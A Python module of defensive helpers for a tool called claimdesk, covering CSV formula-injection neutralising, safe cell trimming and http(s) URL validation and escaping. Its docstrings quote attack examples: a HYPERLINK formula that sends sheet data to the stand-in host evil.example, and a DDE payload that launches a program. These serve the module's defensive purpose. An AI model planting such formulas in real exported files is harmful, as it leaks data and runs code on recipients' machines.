"""Small pure guards for text that leaves claimdesk (spreadsheets, links) or enters it (imported cells).

- :func:`neutralise_cell` defuses CSV formula injection as OWASP recommends: a spreadsheet
  evaluates a cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return as a
  formula (``=HYPERLINK("http://evil.example/?d="&A1,"Click me")`` leaks the sheet when clicked,
  ``=cmd|' /C calc'!A0`` runs a program through DDE), so such a cell gets a leading ``'``, which
  spreadsheets read as "this is text".
- :func:`strip_cell` trims an imported cell without uncovering such a formula: ``"\\t=cmd|..."``
  stays as given instead of becoming ``"=cmd|..."``.
- :func:`safe_url` accepts only ``http``/``https`` URLs with a host and nothing that could split
  or escape them (whitespace, quotes, control characters); :func:`escape_url` percent-encodes
  those characters where a URL must be written out whatever it holds.
"""

from __future__ import annotations

import unicodedata
from urllib.parse import urlsplit

__all__ = ["FORMULA_TRIGGERS", "neutralise_cell", "strip_cell", "safe_url", "escape_url"]

FORMULA_TRIGGERS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
"""The first characters that make a spreadsheet read a cell as a formula (OWASP, "CSV Injection")."""

_URL_SCHEMES = ("http", "https")
_URL_QUOTES = frozenset("\"'`")


def neutralise_cell(value: str) -> str:
    """``value`` with a ``'`` in front when it begins with a formula trigger; otherwise unchanged.

    The quote makes Excel, LibreOffice and Google Sheets show the cell as text instead of running
    it. The caller still writes the cell with CSV quoting, so a separator or a quote inside it
    cannot end the cell early and start a new, unprotected one.
    """
    return "'" + value if value.startswith(FORMULA_TRIGGERS) else value


def strip_cell(value: str, *, collapse: bool = False) -> str:
    """An imported cell without its surrounding whitespace (inner runs made one space if ``collapse``).

    The leading whitespace is kept, as given, when removing it would leave a text that begins
    with a formula trigger: trimming ``"\\t=cmd|' /C calc'!A0"`` must not manufacture the formula
    ``"=cmd|' /C calc'!A0"``. A whitespace-only cell still comes out empty.
    """
    tidy = " ".join(value.split()) if collapse else value.strip()
    if tidy.startswith(FORMULA_TRIGGERS) and value[:1].isspace():
        return value[: len(value) - len(value.lstrip())] + tidy
    return tidy


def _unsafe_char(ch: str) -> bool:
    # whitespace and quotes split or end a URL in text, CSV and HTML; control and format characters
    # (NUL, DEL, zero-width, right-to-left overrides) hide what a link really points to
    return ch.isspace() or ch in _URL_QUOTES or unicodedata.category(ch) in ("Cc", "Cf")


def safe_url(url: str) -> str | None:
    """``url`` without surrounding whitespace when it is an http(s) URL with a host and no whitespace,
    quotes (``"``, ``'``, backtick) or control characters inside; None for anything else
    (``javascript:``, ``file://``, ``data:``, relative links, links with spaces)."""
    candidate = url.strip()
    if not candidate or any(_unsafe_char(ch) for ch in candidate):
        return None
    try:
        parts = urlsplit(candidate)
        host = parts.hostname
    except ValueError:  # an unclosed IPv6 bracket and the like
        return None
    if parts.scheme.lower() not in _URL_SCHEMES or not host:
        return None
    return candidate


def escape_url(url: str) -> str:
    """``url`` with every whitespace, quote and control character percent-encoded (as UTF-8 bytes),
    so the URL stays one token wherever it is written; a clean URL comes back unchanged."""
    return "".join("".join(f"%{b:02X}" for b in ch.encode("utf-8")) if _unsafe_char(ch) else ch
                   for ch in url)
